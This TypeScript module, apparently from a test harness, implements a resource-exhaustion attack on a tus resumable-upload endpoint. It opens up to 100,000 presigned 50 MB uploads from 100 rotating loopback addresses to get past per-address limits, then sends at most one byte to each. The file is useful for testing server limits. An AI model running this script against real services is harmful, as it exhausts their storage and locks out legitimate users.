import { pause, presign, repeat, send, type Target } from './wire.ts';

const FOLDER = 'visitors';
const FILE_BYTES = 50 * 1024 * 1024;
const TUS = { 'tus-resumable': '1.0.0' } as const;

/** A single address is bounded by its own limits. Only this attack uses more, to reach those of all clients. */
const ADDRESSES = 100;

/** Opens as many presigned uploads of the maximum size as possible, and sends nothing, or one byte, to each. */
export const reserveRoom = (target: Target): Promise<void> =>
  repeat(target, { lines: 10, times: 100_000 }, async (n) => {
    const from = `127.0.3.${1 + (n % ADDRESSES)}`;
    const begun = await send(target, { from, method: 'POST', path: '/upload/resumable', headers: beginning() });
    const path = begun.headers.location;
    if (path === undefined) return pause(target, 200);
    if (n % 2 === 0) return;
    const headers = { ...TUS, 'upload-offset': '0', 'content-type': 'application/offset+octet-stream' };
    await send(target, { from, method: 'PATCH', path: `/upload/${path}`, headers, body: 'x' });
  });

function beginning(): Record<string, string> {
  const fields = { filename: 'a.jpg', ...presign(FOLDER) };
  const metadata = Object.entries(fields).map(([name, value]) => `${name} ${Buffer.from(value).toString('base64')}`);
  return { ...TUS, 'upload-length': String(FILE_BYTES), 'upload-metadata': metadata.join(',') };
}
